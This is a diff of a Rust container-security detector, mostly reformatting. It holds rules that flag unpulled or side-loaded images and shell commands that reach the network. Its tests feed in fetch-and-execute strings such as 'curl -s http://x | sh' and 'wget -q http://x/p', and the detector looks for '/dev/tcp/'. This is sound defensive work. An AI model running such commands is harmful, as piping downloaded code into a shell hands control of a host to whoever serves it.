@@ -143,15 +143,26 @@ pub fn build_without_pull(
     Some(Verdict {
         rule: Rule::BuildWithoutPull,
         severity,
-        summary: format!("{} built {what} on the host ({builder} build) without pulling it from a registry", origin.who()),
+        summary: format!(
+            "{} built {what} on the host ({builder} build) without pulling it from a registry",
+            origin.who()
+        ),
         reasons,
     })
 }
 
 /// Rule 2: a container from an image that was built, loaded, imported or committed here and
 /// never pulled.
-pub fn run_of_unpulled_image(origin: &Origin, image: &str, origins: &[String], create: &CreateParams) -> Verdict {
-    let mut reasons = vec![format!("{image} came from {} and was never pulled", origins.join(", "))];
+pub fn run_of_unpulled_image(
+    origin: &Origin,
+    image: &str,
+    origins: &[String],
+    create: &CreateParams,
+) -> Verdict {
+    let mut reasons = vec![format!(
+        "{image} came from {} and was never pulled",
+        origins.join(", ")
+    )];
     if create.privileged {
         reasons.push("privileged container".into());
     }
@@ -173,7 +184,11 @@ pub fn run_of_unpulled_image(origin: &Origin, image: &str, origins: &[String], c
     let dangerous = reasons.len() > 1;
     Verdict {
         rule: Rule::RunOfUnpulledImage,
-        severity: if dangerous { Severity::Critical } else { Severity::High },
+        severity: if dangerous {
+            Severity::Critical
+        } else {
+            Severity::High
+        },
         summary: format!(
             "{} created a container from {image}, an image {} on this host and never pulled{}",
             origin.who(),
@@ -194,16 +209,20 @@ pub fn image_side_loaded(origin: &Origin, what: &str, images: &[String]) -> Verd
     Verdict {
         rule: Rule::ImageSideLoaded,
         severity: Severity::Medium,
-        summary: format!("{} {what} an image{named} from outside any registry", origin.who()),
+        summary: format!(
+            "{} {what} an image{named} from outside any registry",
+            origin.who()
+        ),
         reasons: vec![format!("image {what}, not pulled")],
     }
 }
 
-/// Rule 4: a flagged build's steps reached out to the network.
-pub fn build_egress(build_severity: Severity, build_id: &str, egress: &[String]) -> Verdict {
+/// Rule 4: a flagged build's steps reached out to the network. `severity` is the build's, already
+/// raised for egress.
+pub fn build_egress(severity: Severity, build_id: &str, egress: &[String]) -> Verdict {
     Verdict {
         rule: Rule::BuildEgress,
-        severity: build_severity.raised(),
+        severity,
         summary: format!(
             "build {build_id} fetched from the network while building: {}",
             egress.first().map(String::as_str).unwrap_or("?")
@@ -236,7 +255,10 @@ pub fn egress_command(argv: &[String]) -> Option<String> {
     if !SHELLS.contains(&program) {
         return None;
     }
-    let script = argv.iter().position(|a| a == "-c").and_then(|i| argv.get(i + 1))?;
+    let script = argv
+        .iter()
+        .position(|a| a == "-c")
+        .and_then(|i| argv.get(i + 1))?;
     let fetches = commands(script).any(|command| TOOLS.contains(&command)) || script.contains("/dev/tcp/");
     fetches.then(|| format!("shell fetching from the network: {}", truncate(&line)))
 }
@@ -250,7 +272,9 @@ fn commands(line: &str) -> impl Iterator<Item = &str> {
             command
                 .split_whitespace()
                 .map(|w| w.trim_start_matches('$'))
-                .find(|w| !w.is_empty() && !w.contains('=') && !matches!(*w, "sudo" | "exec" | "command" | "!"))
+                .find(|w| {
+                    !w.is_empty() && !w.contains('=') && !matches!(*w, "sudo" | "exec" | "command" | "!")
+                })
         })
         .map(|word| word.rsplit('/').next().unwrap_or(word))
 }
@@ -277,14 +301,20 @@ mod tests {
         let local_tcp = Origin::for_test(Transport::Tcp, Some("127.0.0.1:4000"));
         let remote = Origin::for_test(Transport::Tcp, Some("10.1.2.3:4000"));
         let targets = ["docker.io/library/evil:1".to_string()];
-        let level = |o: &Origin| build_without_pull(o, "classic", &targets, false, &[]).unwrap().severity;
+        let level = |o: &Origin| {
+            build_without_pull(o, "classic", &targets, false, &[])
+                .unwrap()
+                .severity
+        };
         assert_eq!(level(&unix), Severity::Medium);
         assert_eq!(level(&local_tcp), Severity::High);
         assert_eq!(level(&remote), Severity::Critical);
         assert_eq!(build_without_pull(&unix, "classic", &[], false, &[]), None);
         let egress = ["network tool: wget http://x".to_string()];
         assert_eq!(
-            build_without_pull(&unix, "classic", &[], true, &egress).unwrap().severity,
+            build_without_pull(&unix, "classic", &[], true, &egress)
+                .unwrap()
+                .severity,
             Severity::High
         );
     }
@@ -312,8 +342,18 @@ mod tests {
         assert!(egress_command(&["/bin/sh".into(), "-c".into(), "curl -s http://x | sh".into()]).is_some());
         assert!(egress_command(&["/bin/sh".into(), "-c".into(), "echo hi > /m".into()]).is_none());
         assert!(egress_command(&argv("apk add curl")).is_none());
-        assert!(egress_command(&["/bin/sh".into(), "-c".into(), "echo x && (wget -q http://x/p || true)".into()]).is_some());
+        assert!(egress_command(&[
+            "/bin/sh".into(),
+            "-c".into(),
+            "echo x && (wget -q http://x/p || true)".into()
+        ])
+        .is_some());
         assert!(egress_command(&["sh".into(), "-c".into(), "apk add curl && echo ok".into()]).is_none());
-        assert!(egress_command(&["sh".into(), "-c".into(), "X=1 $(/usr/bin/curl -s http://x) | sh".into()]).is_some());
+        assert!(egress_command(&[
+            "sh".into(),
+            "-c".into(),
+            "X=1 $(/usr/bin/curl -s http://x) | sh".into()
+        ])
+        .is_some());
     }
 }
